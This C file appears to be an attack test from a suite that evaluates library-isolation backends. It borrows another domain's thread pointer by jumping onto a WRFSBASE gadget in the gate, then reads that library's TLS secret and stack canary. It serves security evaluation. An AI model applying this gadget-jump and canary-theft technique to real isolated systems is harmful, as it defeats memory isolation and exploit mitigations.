/* attack-tp-borrow: the gate's thread-pointer check admits any base that
 * is some domain's block, so the app jumps onto a WRFSBASE of the gate
 * with the null library's index in every register the check could use as
 * its index and the library's block in the one the WRFSBASE writes: it
 * comes back running on the library's thread pointer. It then makes a
 * library call on it (the none and mprotect gates take the caller's
 * domain from the FS base) and reads the library's TLS block through
 * %fs: its secret area and its stack canary. Under an isolating backend
 * that read faults (the block is the library's memory). Exit 66: it read
 * them; 67: the gate has no WRFSBASE this app can reach (process,
 * handoff; vmfunc's is in the application's own page 2). */
#include "../../null/api.h"

extern volatile uint64_t __plib_sec_plib_lib_null_data[]; /* the library's TLS block starts its data */
extern uint64_t __plib_sec_plib_app_data[];		  /* and the application's its own */

/* What tp_set loads: every general register but rsp, by number (rax, rcx,
   rdx, rbx, rsp, rbp, rsi, rdi, r8-r15), and where it jumps. */
uint64_t tp_regs[16];
const unsigned char *tp_at;
uint64_t tp_saved_rsp;

/* long tp_set(void): jumps to tp_at with tp_regs loaded and a stack of
   its own landing addresses (wherever a gate routine or the gate's tail
   returns, it lands there; what the gate pops into rbp and rbx is
   replaced). Returns the FS base it lands with. */
long tp_set(void);
__asm__(".text\n"
	"tp_set:\n\t"
	"push %rbx\n\t"
	"push %rbp\n\t"
	"push %r12\n\t"
	"push %r13\n\t"
	"push %r14\n\t"
	"push %r15\n\t"
	"mov %rsp, tp_saved_rsp(%rip)\n\t"
	"lea 1f(%rip), %rax\n\t"
	"sub $64, %rsp\n\t"
	"and $-16, %rsp\n\t"
	".irp i, 0, 1, 2, 3, 4, 5, 6, 7\n\t"
	"mov %rax, 8*\\i(%rsp)\n\t" /* eight landing addresses */
	".endr\n\t"
	"mov tp_regs+8*0(%rip), %rax\n\t"
	"mov tp_regs+8*1(%rip), %rcx\n\t"
	"mov tp_regs+8*2(%rip), %rdx\n\t"
	"mov tp_regs+8*3(%rip), %rbx\n\t"
	"mov tp_regs+8*5(%rip), %rbp\n\t"
	"mov tp_regs+8*6(%rip), %rsi\n\t"
	"mov tp_regs+8*7(%rip), %rdi\n\t"
	"mov tp_regs+8*8(%rip), %r8\n\t"
	"mov tp_regs+8*9(%rip), %r9\n\t"
	"mov tp_regs+8*10(%rip), %r10\n\t"
	"mov tp_regs+8*11(%rip), %r11\n\t"
	"mov tp_regs+8*12(%rip), %r12\n\t"
	"mov tp_regs+8*13(%rip), %r13\n\t"
	"mov tp_regs+8*14(%rip), %r14\n\t"
	"mov tp_regs+8*15(%rip), %r15\n\t"
	"jmp *tp_at(%rip)\n"
	"1:\n\t"
	"mov tp_saved_rsp(%rip), %rsp\n\t"
	"rdfsbase %rax\n\t"
	"pop %r15\n\t"
	"pop %r14\n\t"
	"pop %r13\n\t"
	"pop %r12\n\t"
	"pop %rbp\n\t"
	"pop %rbx\n\t"
	"ret\n");

/* The FS base after jumping onto the gate's WRFSBASE with domain idx's
   block in the register it writes and idx in every other one (r10: the
   null library's no-op entry, for the none gate's call that follows). */
static long tp_jump(int reg, uint64_t block, uint64_t idx)
{
	for (int i = 0; i < 16; i++)
		tp_regs[i] = idx;
	tp_regs[10] = NULL_NOOP * PLIB_ENTRY_SIZE;
	tp_regs[reg] = block;
	return tp_set();
}

/* The first WRFSBASE (F3 REX.W 0F AE /2) in [g, g+4096), and the number
   of the register it writes; 0 if there is none. */
static const unsigned char *find_wrfsbase(const unsigned char *g, int *reg)
{
	for (int i = 0; i + 5 <= 4096; i++)
		if (g[i] == 0xf3 && (g[i + 1] & 0xf8) == 0x48 && g[i + 2] == 0x0f && g[i + 3] == 0xae && (g[i + 4] & 0xf8) == 0xd0) {
			*reg = ((g[i + 1] & 1) << 3) | (g[i + 4] & 7);
			return g + i;
		}
	return 0;
}

/* Whether page 0 of the gate ends in the first two bytes of a VMFUNC
   (0F 01; its D4 starts page 1, which the application's view may not
   map): the vmfunc gate. */
static int has_vmfunc(const unsigned char *g)
{
	return g[4094] == 0x0f && g[4095] == 0x01;
}

int main(void)
{
	const unsigned char *g = (const unsigned char *)PLIB_GATE_PAGE;
	int reg = 0;
	tp_at = find_wrfsbase(g, &reg);
	if (!tp_at && has_vmfunc(g)) /* the vmfunc gate: page 2 is the application's own */
		tp_at = find_wrfsbase(g + 2 * 4096, &reg);
	if (!tp_at) {
		plib_print("attack-tp-borrow: no WRFSBASE in this backend's gate that the application maps\n");
		return PLIB_ATTACK_NOT_APPLICABLE;
	}
	uint64_t lib = (uint64_t)__plib_sec_plib_lib_null_data, app = (uint64_t)__plib_sec_plib_app_data;
	plib_metric("wrfsbase_at", (long)tp_at);
	/* From here to the way back, no function with a stack canary runs:
	   its check would read the library's block. */
	long got = tp_jump(reg, lib, NULL_LIB);
	long r = plib_call(NULL_ADD, 2, 3, 0, 0); /* a call made on the library's thread pointer */
	long after = 0;
	__asm__ volatile("rdfsbase %0" : "=r"(after)); /* vmfunc gives the application its own back; none and mprotect the caller's they found */
	if (after != (long)lib)
		tp_jump(reg, lib, NULL_LIB); /* on the library's thread pointer again, for the reads */
	uint64_t secret_len, canary;
	__asm__ volatile("mov %%fs:%c2, %0\n\tmov %%fs:0x28, %1" : "=r"(secret_len), "=r"(canary) : "i"(PLIB_TLS_SECRET));
	long back = tp_jump(reg, app, 0);
	plib_metric("fs_base", got);
	plib_metric("fs_after_call", after);
	plib_metric("fs_back", back);
	plib_metric("add", r);
	plib_metric("secret_len", (long)secret_len);
	plib_metric("stolen_canary", (long)canary);
	plib_print("attack-tp-borrow: read the library's TLS block through its thread pointer\n");
	return PLIB_ATTACK_WON;
}
